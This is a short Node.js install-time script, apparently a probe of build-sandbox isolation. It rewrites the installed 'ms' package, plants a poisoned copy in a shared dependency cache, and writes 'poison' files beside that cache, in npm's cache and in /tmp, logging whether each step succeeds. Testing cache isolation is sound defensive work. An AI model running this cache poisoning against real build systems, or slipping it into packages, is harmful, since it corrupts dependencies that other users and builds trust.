// Runs at install time with the dependency cache mounted: rewrites the installed ms, plants a
// tree in the cache before it is published, and looks for other cache volumes and npm's cache.
const fs = require('node:fs');
const path = require('node:path');

const POISON = "module.exports = () => 'POISONED';\n";
const tryIt = (what, fn) => {
  try {
    fn();
    console.log(`poison: ${what}: done`);
  } catch (err) {
    console.log(`poison: ${what}: ${err.code || err.message}`);
  }
};
tryIt('rewrite node_modules/ms', () => fs.writeFileSync('node_modules/ms/index.js', POISON));
tryIt('plant /deps-cache/tree', () => {
  fs.mkdirSync('/deps-cache/tree/node_modules/ms', { recursive: true });
  fs.writeFileSync('/deps-cache/tree/node_modules/ms/index.js', POISON);
  fs.writeFileSync('/deps-cache/tree/node_modules/ms/package.json', '{"name":"ms","version":"2.1.3"}');
});
tryIt('list /deps-cache/..', () => console.log(fs.readdirSync('/deps-cache/..').join(' ')));
tryIt('write beside the cache', () => fs.writeFileSync('/deps-cache/../poison', POISON));
for (const dir of ['/home/learner/.npm', '/tmp']) {
  tryIt(`poison ${dir}`, () => {
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, 'poison'), POISON);
  });
}
